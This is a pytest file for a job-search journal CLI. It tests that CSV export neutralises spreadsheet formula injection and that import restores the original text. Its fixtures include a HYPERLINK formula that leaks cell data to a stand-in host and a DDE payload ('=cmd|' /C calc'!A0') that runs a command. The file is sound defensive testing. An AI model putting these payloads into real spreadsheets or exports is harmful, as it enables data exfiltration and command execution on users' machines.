"""CSV export never hands a spreadsheet a formula, and importing the export gives back the text.

A note such as ``=HYPERLINK("https://example.com/?"&A2, "details")`` became a
live link in a spreadsheet, carrying other cells' contents with it. Cells
that start a formula (``=``, ``+``, ``-``, ``@``, a tab, a carriage return:
OWASP's list) are written after an apostrophe, which spreadsheets show as
text; import takes exactly that apostrophe off again.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from coachflow.cli import cli
from coachflow.journal.io import FORMULA_STARTS, escape_cell, unescape_cell

FORMULAS = [
    '=HYPERLINK("https://example.com/?leak="&A2, "details")',
    "+1 555 0100 (the recruiter's phone)",
    "-2 days late, sorry",
    "@hiring-manager said hello",
    "=1+1",
]


def _invoke(args, journal: Path, **kwargs):
    return CliRunner().invoke(cli, [*args, "--journal", str(journal)], **kwargs)


def _record(journal: Path) -> None:
    for number, note in enumerate(FORMULAS, start=1):
        result = _invoke(["run", "milestone", "--kind", "good-conversation", "--company", f"Acme {number}",
                          "--notes", note], journal)
        assert result.exit_code == 0, result.output
    result = _invoke(["run", "feedback", "--company", "=cmd|' /C calc'!A0", "--text", "'=already quoted"], journal)
    assert result.exit_code == 0, result.output


def test_export_writes_no_cell_a_spreadsheet_would_run(tmp_path: Path) -> None:
    journal = tmp_path / "journal.sqlite3"
    _record(journal)
    result = _invoke(["export", "--format", "csv"], journal)
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    cells = [cell for row in rows for cell in row.values() if cell]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert [row["notes"] for row in rows[:5]] == ["'" + note for note in FORMULAS]
    assert rows[5]["company"] == "'=cmd|' /C calc'!A0"
    assert rows[5]["text"] == "''=already quoted"  # the apostrophe it had, and the one that guards it


def test_importing_an_export_gives_back_every_text_as_it_was(tmp_path: Path) -> None:
    journal = tmp_path / "journal.sqlite3"
    _record(journal)
    exported = tmp_path / "search.csv"
    assert _invoke(["export", "-o", str(exported)], journal).exit_code == 0
    copy = tmp_path / "copy.sqlite3"
    result = _invoke(["import", str(exported)], copy)
    assert result.exit_code == 0, result.output
    original = _invoke(["export"], journal).stdout
    assert _invoke(["export"], copy).stdout == original
    notes = [json.loads(line)["notes"] for line in original.splitlines() if "milestone" in line]
    assert notes == FORMULAS


def test_jsonl_export_is_left_as_the_journal_has_it(tmp_path: Path) -> None:
    journal = tmp_path / "journal.sqlite3"
    _record(journal)
    lines = _invoke(["export"], journal).stdout.splitlines()
    assert json.loads(lines[0])["notes"] == FORMULAS[0]


def test_a_spreadsheet_s_own_apostrophe_before_a_formula_start_is_taken_as_marking_text(tmp_path: Path) -> None:
    sheet = tmp_path / "sheet.csv"
    sheet.write_text("date,type,company,role,notes\n2026-03-02,applied,Acme,Analyst,'=not a formula\n"
                     "2026-03-03,applied,Beta,Analyst,'plain apostrophe\n", encoding="utf-8")
    journal = tmp_path / "journal.sqlite3"
    assert _invoke(["import", str(sheet)], journal).exit_code == 0
    notes = [json.loads(line)["notes"] for line in _invoke(["export"], journal).stdout.splitlines()]
    assert notes == ["=not a formula", "'plain apostrophe"]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_each_formula_start_is_guarded(start: str) -> None:
    assert escape_cell(f"{start}x") == f"'{start}x"
    assert unescape_cell(escape_cell(f"{start}x")) == f"{start}x"


@given(st.text(alphabet=st.sampled_from(list("'=+-@\t\rab ")), max_size=12))
def test_every_text_survives_the_round_trip_and_no_cell_starts_a_formula(text: str) -> None:
    cell = escape_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert unescape_cell(cell) == text
